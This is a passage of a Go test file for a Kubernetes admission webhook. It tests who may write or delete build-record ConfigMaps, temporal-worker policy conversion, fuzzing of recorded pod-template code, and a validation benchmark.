	plain := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "settings", Namespace: "iss-system"}}
	inUse := Facts{BuildRecords: builds{inUse: map[string]int{"team-a-dev/v7": 2}}}
	gone := Facts{BuildRecords: builds{}}
	for _, tc := range []struct {
		name        string
		req         Request
		cur, old    *corev1.ConfigMap
		refusal     string
		unavailable bool
	}{
		{"the webhook writes one", Request{Operation: Create, Self: true}, record, nil, "", false},
		{"the webhook touches one", Request{Operation: Update, Self: true}, record, record, "", false},
		{"the webhook collects one", Request{Operation: Delete, Self: true}, nil, record, "", false},
		{"someone else creates one first", Request{Operation: Create, User: "admin", Trusted: true}, record, nil, "only iss-webhook writes build records", false},
		{"a cluster admin changes its code", Request{Operation: Update, User: "admin", Trusted: true}, changedHash, record, "only iss-webhook may change it", false},
		{"a cluster admin removes its label", Request{Operation: Update, User: "admin", Trusted: true}, unlabelled, record, "only iss-webhook may change it", false},
		{"the garbage collector removes a finalizer", Request{Operation: Update, User: "system:serviceaccount:kube-system:generic-garbage-collector", Trusted: true}, record, finalized, "", false},
		{"someone else removes a finalizer", Request{Operation: Update, User: "alice"}, record, finalized, "only iss-webhook may change it", false},
		{"someone else deletes one", Request{Operation: Delete, User: "alice", Facts: gone}, nil, record, "only iss-webhook and trusted identities may delete it", false},
		{"a cluster admin deletes one whose build is in use", Request{Operation: Delete, User: "admin", Trusted: true, Facts: inUse}, nil, record, "2 Deployment(s) and ReplicaSet(s) of the build are still in team-a-dev", false},
		{"a cluster admin clears one whose build is gone", Request{Operation: Delete, User: "admin", Trusted: true, Facts: gone}, nil, record, "", false},
		{"the cache cannot answer", Request{Operation: Delete, User: "admin", Trusted: true, Facts: Facts{BuildRecords: builds{err: errors.New("not synced")}}}, nil, record, "cannot tell", true},
		{"another ConfigMap", Request{Operation: Create, User: "alice"}, plain, nil, "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tc.req.Namespace, tc.req.Name = "iss-system", record.Name
			out := AdmitBuildRecord(context.Background(), Default(), &tc.req, tc.cur, tc.old)
			switch {
			case tc.refusal == "" && out.Refusal != nil:
				t.Errorf("refused: %s", out.Refusal.Message)
			case tc.refusal != "" && (out.Refusal == nil || !strings.Contains(out.Refusal.Message, tc.refusal) || out.Refusal.Unavailable != tc.unavailable):
				t.Errorf("refusal = %+v, want one containing %q", out.Refusal, tc.refusal)
			}
		})
	}
}

func TestTemporalWorkersFromISSPolicy(t *testing.T) {
	def := Default().TemporalWorkers
	if def.BuildRecordRetention != 30*24*time.Hour || def.AllowImageTags {
		t.Errorf("default: retention %s, tags %v", def.BuildRecordRetention, def.AllowImageTags)
	}
	p, errs := FromISSPolicy(&v1alpha1.ISSPolicySpec{TemporalWorkers: &v1alpha1.TemporalWorkers{
		BuildRecordRetention: &metav1.Duration{Duration: 2 * time.Hour}, AllowImageTags: ptr.To(true),
	}})
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if tw := p.TemporalWorkers; tw.BuildRecordRetention != 2*time.Hour || !tw.AllowImageTags || !tw.IsWorker(worker("v7", "v7", digestV7)) {
		t.Errorf("got %+v", tw)
	}
	back, errs := FromISSPolicy(&ToISSPolicy(p).Spec)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	samePolicy(t, back, p)
	_, errs = FromISSPolicy(&v1alpha1.ISSPolicySpec{TemporalWorkers: &v1alpha1.TemporalWorkers{
		Selector: &metav1.LabelSelector{}, BuildRecordRetention: &metav1.Duration{Duration: 30 * time.Second},
	}})
	checkErrs(t, errs, []wantErr{{"spec.temporalWorkers.selector", "an empty selector"}, {"spec.temporalWorkers.buildRecordRetention", "at least 1m"}})
}

// FuzzRecordedCode feeds arbitrary recorded code, pod templates and images to what reads them:
// a record never panics the rule, a template always has its own recorded code, and a record of
// another hash always denies, with at least one field.
func FuzzRecordedCode(f *testing.F) {
	f.Add(`{"spec":{"containers":[{"image":"a","name":"w"}]}}`, `{"spec":{"containers":[{"name":"w","image":"b","env":[{"name":"X","value":"1"}]}]}}`, digestV7)
	f.Add(`[]`, `{}`, "registry.example.org/orders-worker:v7")
	f.Add(`{"metadata":{"labels":{"a":"b"}},"spec":{"volumes":[{}],"containers":[]}}`, `{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"x"}}}`, "UPPER@@x")
	f.Add(`null`, `{"spec":{"initContainers":[{"name":"i","image":"busybox"}],"nodeSelector":{"a":"b"}}}`, "")
	f.Fuzz(func(t *testing.T, recordedCode, template, image string) {
		_ = validateDigest(image, field.NewPath("image"))
		tmpl := &corev1.PodTemplateSpec{}
		if json.Unmarshal([]byte(template), tmpl) != nil {
			return
		}
		own := RecordOf("team-a-dev", &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{LabelBuildID: "v7"}}, Spec: appsv1.DeploymentSpec{Template: *tmpl}})
		if errs := ValidateRecordedCode(&own, tmpl, field.NewPath("spec", "template")); len(errs) > 0 {
			t.Fatalf("a template differs from its own record: %v", errs)
		}
		other := BuildRecord{Namespace: "team-a-dev", BuildID: "v7", CodeHash: "sha256:other", Code: []byte(recordedCode), Workload: "w"}
		if errs := ValidateRecordedCode(&other, tmpl, field.NewPath("spec", "template")); len(errs) == 0 {
			t.Fatalf("a record of another hash admitted the template")
		}
	})
}

// BenchmarkTemporalWorker measures what a review of a worker Deployment pays for the blue/green
// rules: a create judged against its record, and an update of its resources.
func BenchmarkTemporalWorker(b *testing.B) {
	tp := DefaultTemporalPolicy()
	v7 := worker("v7", "v7", digestV7)
	v7.Spec.Template.Spec.Containers[0].Env = make([]corev1.EnvVar, 30)
	for i := range v7.Spec.Template.Spec.Containers[0].Env {
		v7.Spec.Template.Spec.Containers[0].Env[i] = corev1.EnvVar{Name: "VAR_" + strings.Repeat("X", i), Value: "value"}
	}
	rec := RecordOf("team-a-dev", v7)
	resized := changed(v7, func(d *appsv1.Deployment) {
		d.Spec.Template.Spec.Containers[0].Resources.Limits = resources("cpu", "2")
	})
	b.Run("create", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if errs := tp.ValidateTemporalWorker(nil, v7, &rec); len(errs) > 0 {
				b.Fatal(errs)
			}
			_ = RecordOf("team-a-dev", v7)
		}
	})
	b.Run("update", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if errs := tp.ValidateTemporalWorker(v7, resized, nil); len(errs) > 0 {
				b.Fatal(errs)
			}
		}
	})
}
